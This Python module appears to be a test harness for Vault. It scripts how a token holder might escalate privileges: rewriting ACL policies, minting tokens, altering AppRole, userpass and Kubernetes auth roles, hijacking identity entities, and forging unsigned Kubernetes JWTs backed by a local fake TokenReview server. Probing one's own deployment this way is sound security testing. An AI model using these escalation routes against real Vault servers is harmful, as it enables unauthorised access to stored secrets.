"""What an attacker with a token really does on a server, one function for each kind."""

import base64
import json
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

CROWN = 'path "esc-kv/crown" { capabilities = ["read"] }'
EVERYTHING = (
    'path "*" { capabilities = ["create", "read", "update", "delete", "list", "patch", "sudo"] }'
)
CA = (Path(__file__).parents[2] / "live" / "tls" / "cert.pem").read_text()
WORKED = {200, 204}
HASH = "$2a$05$abcdefghijklmnopqrstuuMFdK5uK3hjI2eonbGNcqDgBCXiiEENO"
"""A hash of the password ``q`` that the server checks quickly."""
PASSWORDS = ({"password_hash": HASH}, {"password": "q"})


class Attacker:
    """Somebody with a token, and with the server's answers to unauthenticated requests.

    Parameters
    ----------
    server:
        The server.
    token:
        The token to begin with.
    user, entity, alias:
        The role of ``auth/esc-me`` by which it logs in, its entity and the mount's accessor.
    kubernetes:
        The URL of an API server that the attacker runs.
    """

    def __init__(self, server, token, user, *, entity, accessor, kubernetes):
        self.server, self.token, self.user = server, token, user
        self.entity, self.accessor, self.kubernetes = entity, accessor, kubernetes

    def try_all(self, method, path, *bodies):
        """Send a request with each body until one works."""
        for body in bodies or ({},):
            status, answer = self.server.ask(
                method, path, None if method == "GET" else body, self.token
            )
            if status in WORKED:
                return answer or {"done": True}
        return None

    def login(self, path, body):
        """Log in, as everybody may; return the token."""
        status, answer = self.server.ask("POST", path, body, "")
        return answer["auth"]["client_token"] if status == 200 else None

    def again(self):
        """Return the token of a new login as oneself."""
        body = {"role_id": self.user, "secret_id": self.user}
        return self.login("auth/esc-me/login", body)


def named(*keys):
    """Return each way to name the policy that reads the secret."""
    return [{key: value} for key in keys for value in (["crown"], "crown")]


def rewrite_policy(me):
    body = {"policy": EVERYTHING}
    me.try_all("PUT", "sys/policies/acl/esc", body, {**body, "why": "1"})
    me.try_all("PATCH", "sys/policies/acl/esc", body)
    me.try_all("PUT", "sys/policy/esc", body, {"rules": EVERYTHING})
    return [me.token]


def rewrite_after_login(me):
    """Write the policy of a role that the attacker's password logs in to."""
    me.try_all("PUT", "sys/policies/acl/weak", {"policy": EVERYTHING})
    return _approle(me, "weak")


def create_token(me):
    bodies = [
        {**policy, **more}
        for policy in named("policies")
        for more in ({"no_default_policy": True}, {})
    ]
    return [
        answer["auth"]["client_token"]
        for path in ("auth/token/create", "auth/token/create-orphan", "auth/token/create/crowner")
        if (answer := me.try_all("POST", path, *bodies, {}))
    ]


def create_weaker_token(me):
    answer = me.try_all(
        "POST", "auth/token/create", {"policies": ["esc"], "no_default_policy": True}
    )
    return [answer["auth"]["client_token"]] if answer else []


def write_token_role(me):
    roles = (*named("allowed_policies"), {"disallowed_policies": "none"})
    for name in ("mine", "crownless"):
        me.try_all("POST", f"auth/token/roles/{name}", *roles)
        answer = me.try_all("POST", f"auth/token/create/{name}", *named("policies"))
        if answer:
            return [answer["auth"]["client_token"]]
    return []


def write_kubernetes_role(me):
    admits = {"bound_service_account_names": "me", "bound_service_account_namespaces": "mine"}
    bodies = [{**admits, **policy} for policy in named("token_policies", "policies")]
    for name in ("mine", "strong"):
        me.try_all("POST", f"auth/esc-k8s/role/{name}", *bodies, admits)
        token = me.login("auth/esc-k8s/login", {"role": name, "jwt": account("mine", "me")})
        if token:
            return [token]
    return []


def write_kubernetes_config(me):
    body = {"kubernetes_host": me.kubernetes, "kubernetes_ca_cert": CA}
    me.try_all("POST", "auth/esc-far/config", body)
    return [me.login("auth/esc-far/login", {"role": "strong", "jwt": account("prod", "boss")})]


def _approle(me, name):
    read = me.try_all("GET", f"auth/esc-app/role/{name}/role-id")
    role_id = read["data"]["role_id"] if read else f"mine-{name}"
    if not read:
        me.try_all("POST", f"auth/esc-app/role/{name}/role-id", {"role_id": role_id})
    made = me.try_all("POST", f"auth/esc-app/role/{name}/secret-id")
    secret_id = made["data"]["secret_id"] if made else f"s-{time.monotonic_ns()}"
    if not made:
        me.try_all("POST", f"auth/esc-app/role/{name}/custom-secret-id", {"secret_id": secret_id})
    body = {"role_id": role_id, "secret_id": secret_id}
    return [me.login("auth/esc-app/login", body)]


def login_as_approle(me):
    return _approle(me, "strong")


def write_approle(me):
    opened = {"role_id": "opened", "bind_secret_id": False, "token_bound_cidrs": "0.0.0.0/0"}
    policies = named("token_policies", "policies")
    me.try_all("POST", "auth/esc-app/role/mine", *({**opened, **policy} for policy in policies))
    me.try_all("POST", "auth/esc-app/role/weak", *policies)
    me.try_all("POST", "auth/esc-app/role/weak/policies", *policies)
    return [me.login("auth/esc-app/login", {"role_id": "opened"}), *_approle(me, "weak")]


def take_user(me):
    me.try_all("POST", "auth/esc-up/users/boss/password", *PASSWORDS)
    me.try_all("POST", "auth/esc-up/users/boss", *PASSWORDS)
    return [me.login("auth/esc-up/login/boss", {"password": "q"})]


def write_user(me):
    policies = named("token_policies", "policies")
    bodies = [{**password, **one} for password in PASSWORDS for one in policies]
    made = me.try_all("POST", "auth/esc-up/users/mine", *bodies)
    me.try_all("POST", "auth/esc-up/users/bob", *bodies)
    me.try_all("POST", "auth/esc-up/users/bob/policies", *policies)
    me.try_all("POST", "auth/esc-up/users/bob/password", *PASSWORDS)
    user = "mine" if made else "bob"
    return [me.login(f"auth/esc-up/login/{user}", {"password": "q"})]


def write_entity(me):
    me.try_all("POST", f"identity/entity/id/{me.entity}", *named("policies"))
    me.try_all("POST", "identity/entity", *({"id": me.entity, **one} for one in named("policies")))
    return [me.token]


def write_group(me):
    members = {"member_entity_ids": [me.entity]}
    bodies = [{**members, **one} for one in named("policies")]
    me.try_all("POST", "identity/group", *({"name": "mine", **one} for one in bodies))
    me.try_all("POST", "identity/group", {"name": "crowned", **members})
    me.try_all("POST", "identity/group/name/crowned", members)
    return [me.token]


def move_alias(me):
    body = {"name": me.user, "mount_accessor": me.accessor, "canonical_id": me.strong}
    me.try_all("POST", "identity/entity-alias", body)
    me.try_all("POST", "identity/alias", body)
    return [me.again()]


def merge_entities(me):
    me.try_all(
        "POST",
        "identity/entity/merge",
        {"to_entity_id": me.strong, "from_entity_ids": [me.entity]},
    )
    return [me.again()]


def enable_method(me):
    me.try_all("POST", "sys/auth/mine", {"type": "userpass"})
    policies = named("token_policies", "policies")
    bodies = [{"password_hash": HASH, **one} for one in policies]
    made = me.try_all("POST", "auth/mine/users/me", *bodies)
    return [me.login("auth/mine/login/me", {"password": "q"})] if made else []


def account(namespace, name):
    """Return a ServiceAccount's token as far as Vault reads it itself."""
    claims = {
        "namespace": namespace,
        "serviceaccount": {"name": name, "uid": f"{namespace}-{name}"},
    }
    parts = (
        {"alg": "RS256", "typ": "JWT"},
        {"sub": f"system:serviceaccount:{namespace}:{name}", "kubernetes.io": claims},
    )
    encoded = [base64.urlsafe_b64encode(json.dumps(part).encode()) for part in parts]
    signature = base64.urlsafe_b64encode(b"x" * 256)
    return b".".join(part.rstrip(b"=") for part in (*encoded, signature)).decode()


API_AUDIENCE = "https://kubernetes.default.svc.cluster.local"
"""The audience of tokens for the API server itself."""


class Reviews(BaseHTTPRequestHandler):
    """An API server that takes every token for what it says of itself, if its audience fits."""

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        part = asked["spec"]["token"].split(".")[1]
        claims = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
        who = claims["kubernetes.io"]["serviceaccount"]["uid"]
        wanted = asked["spec"].get("audiences") or [API_AUDIENCE]
        fits = [one for one in wanted if one in claims.get("aud", wanted)]
        review = {
            "apiVersion": "authentication.k8s.io/v1",
            "kind": "TokenReview",
            "status": {
                "authenticated": bool(fits),
                "audiences": fits,
                "user": {"username": claims["sub"], "uid": who, "groups": []},
            },
        }
        body = json.dumps(review).encode()
        self.send_response(201)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@contextmanager
def api_server():
    """Run such an API server; yield its URL."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Reviews)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
